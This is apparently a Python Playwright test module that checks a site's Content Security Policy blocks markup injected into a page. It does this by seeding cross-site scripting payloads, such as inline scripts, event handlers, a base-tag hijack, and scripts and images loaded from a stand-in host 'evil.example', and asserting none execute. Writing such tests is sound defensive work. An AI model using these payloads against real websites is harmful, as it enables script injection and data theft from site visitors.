"""What a page may run: the site's own scripts, and nothing that somebody else put into it.

That no page asks for what its policy refuses is looked at in every browser test (``tests/conftest.py``).
"""

import re

import pytest
from playwright.sync_api import Page, Route, expect

from portal.outputs.security import TILES_ORIGIN

#: One picture of one dot.
DOT = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="
#: What an attacker may get into a page, and what it would do there.
SEEDS = {
    "script": "<script>window.pwned = 1</script>",
    "handler": f'<img src="{DOT}" onload="window.pwned = 1">',
    "other host": '<script src="https://evil.example/x.js"></script>',
    "data script": '<script src="data:text/javascript,window.pwned=1"></script>',
    "frame": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "base": '<base href="https://evil.example/"><script src="x.js"></script>',
    "plugin": '<object data="data:text/html,<script>parent.pwned=1</script>"></object>',
    "style": "<style>#contenu { color: red }</style>",
    "picture": '<img src="https://evil.example/seen.png">',
}


def seed(page: Page, address: str, markup: str) -> list[str]:
    """Open a page into whose article somebody got some markup; return what the attacker's host is asked for."""
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(body="window.pwned = 1")

    def add(route: Route) -> None:
        body = route.fetch().text()
        assert "</h1>" in body
        route.fulfill(body=body.replace("</h1>", f"</h1>{markup}", 1), content_type="text/html")

    page.route("https://evil.example/**", answer)
    page.route(address, add)
    page.goto(address, wait_until="networkidle")
    return asked


@pytest.mark.parametrize("name", SEEDS)
def test_what_was_slipped_into_a_page_does_not_run(
    page: Page, served_site: str, refusals: list[str], name: str
) -> None:
    asked = seed(page, served_site + "maisons/atrium/", SEEDS[name])
    assert page.evaluate("window.pwned") is None
    assert asked == []
    assert page.locator("#contenu").evaluate("one => getComputedStyle(one).color") != "rgb(255, 0, 0)"
    assert refusals
    refusals.clear()


@pytest.mark.parametrize("address", ["", "carte/", "demarches/violences/", "404.html"])
def test_no_page_evaluates_a_text(page: Page, served_site: str, refusals: list[str], address: str) -> None:
    page.goto(served_site + address)
    page.evaluate("document.body.setAttribute('onclick', 'window.pwned = 1')")
    page.locator("h1").first.click()
    assert page.evaluate("window.pwned") is None
    assert refusals
    refusals.clear()


def test_the_background_of_the_map_is_the_one_thing_that_comes_from_elsewhere(page: Page, served_site: str) -> None:
    page.route(f"{TILES_ORIGIN}/**", lambda route: route.fulfill(body="", content_type="image/png"))
    page.goto(served_site + "carte/")
    page.get_by_role("button", name="Afficher la carte").click()
    with page.expect_request(re.compile(re.escape(TILES_ORIGIN))):
        page.get_by_role("button", name="Afficher le fond de carte").click()
    expect(page.locator(".leaflet-tile").first).to_be_attached()
